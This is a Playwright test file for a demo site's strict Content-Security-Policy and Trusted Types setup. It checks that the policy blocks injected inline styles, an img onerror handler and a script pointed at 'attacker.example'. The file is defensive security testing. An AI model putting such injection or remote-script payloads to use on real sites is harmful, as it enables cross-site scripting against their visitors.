import { DemoPage } from './demo.ts'
import { expect, test } from './fixtures.ts'

// The demo is served under a strict Content-Security-Policy (scripts/lib/demoCsp.ts) and every spec's
// `cspViolations` fixture fails a test whose pages break it. These show the policy is the strict one and
// that the fixture does catch what it blocks.

test('the demo is served under a strict policy: nonces, no unsafe-inline, no style attributes, Trusted Types', async ({
  page,
}) => {
  const response = await page.goto('/')
  const policy = response?.headers()['content-security-policy'] ?? ''
  const nonce = /script-src 'nonce-([A-Za-z0-9+/=]+)' 'strict-dynamic'/.exec(policy)?.[1]
  expect(nonce, policy).toBeDefined()
  expect(policy).toContain(`style-src 'self' 'nonce-${nonce}'`)
  expect(policy).toContain("style-src-attr 'none'")
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(policy).toMatch(/trusted-types portico portico_email /)
  expect(policy).not.toContain('unsafe')
  expect(policy).not.toContain('allow-duplicates')
  // Styled through the nonce: the modal's own stylesheet applies (a blocked one would leave it unstyled).
  const demo = new DemoPage(page)
  await demo.openConnect()
  await expect(demo.dialog).toBeVisible()
  expect(await demo.dialog.evaluate((dialog) => getComputedStyle(dialog).borderRadius)).not.toBe('0px')
})

test('self-check: an inline style, a style attribute and markup with an inline script (a handler) are caught', async ({
  page,
  cspViolations,
}) => {
  const demo = new DemoPage(page)
  await demo.goto()
  await expect(demo.connectButton).toBeVisible()
  expect(cspViolations).toEqual([])
  await page.evaluate(() => {
    const style = document.createElement('style')
    style.textContent = 'body{outline:1px solid red}'
    document.head.append(style)
    const marked = document.createElement('div')
    marked.setAttribute('style', 'color:red')
    document.body.append(marked)
    // Markup with an inline event handler: Trusted Types refuses the string before the handler's own
    // script-src check could (an element script the test inserts itself would run with the DevTools
    // protocol's exemption from the page's policy).
    try {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img alt="" src="data:," onerror="window.__inlineRan = true">',
      )
    } catch {
      // TypeError: the sink requires TrustedHTML.
    }
  })
  await expect
    .poll(() => cspViolations.map((violation) => /: (\S+) blocked/.exec(violation)?.[1]).sort())
    .toEqual(['require-trusted-types-for', 'style-src-attr', 'style-src-elem'])
  expect(
    await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan),
  ).toBeUndefined()
  // Caught and checked here: the fixture's own check then passes.
  cspViolations.length = 0
})

test('a page script can load no script through Portico’s Trusted Types policies, and makes none of its own', async ({
  page,
  cspViolations,
}) => {
  const demo = new DemoPage(page)
  await demo.goto()
  await demo.openConnect()
  await expect(demo.dialog).toBeVisible()
  // A visitor turning to the email field loads its plugin: the kernel's policy is made for its entry.
  await demo.dialog.getByLabel('Email').click()
  await expect
    .poll(() =>
      page.evaluate(() =>
        performance
          .getEntriesByType('resource')
          .some((entry) => new URL(entry.name).pathname.endsWith('/remoteEntry.js')),
      ),
    )
    .toBe(true)
  const attempts = await page.evaluate(() => {
    const outcome = (attempt: () => void) => {
      try {
        attempt()
        return 'allowed'
      } catch (error) {
        return (error as Error).name
      }
    }
    const script = document.createElement('script')
    const factory = (
      window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
    ).trustedTypes
    return {
      // A script URL as a plain string.
      scriptSrc: outcome(() => {
        script.src = 'https://attacker.example/x.js'
      }),
      // A policy of a name the page does not list, and one the kernel already made.
      ownPolicy: outcome(() => factory.createPolicy('attacker', { createScriptURL: (url: string) => url })),
      kernelName: outcome(() => factory.createPolicy('portico', { createScriptURL: (url: string) => url })),
    }
  })
  expect(attempts).toEqual({ scriptSrc: 'TypeError', ownPolicy: 'TypeError', kernelName: 'TypeError' })
  expect(cspViolations.length).toBeGreaterThan(0)
  expect(
    cspViolations.every((violation) =>
      /: trusted-types blocked|: require-trusted-types-for blocked/.test(violation),
    ),
  ).toBe(true)
  cspViolations.length = 0
})
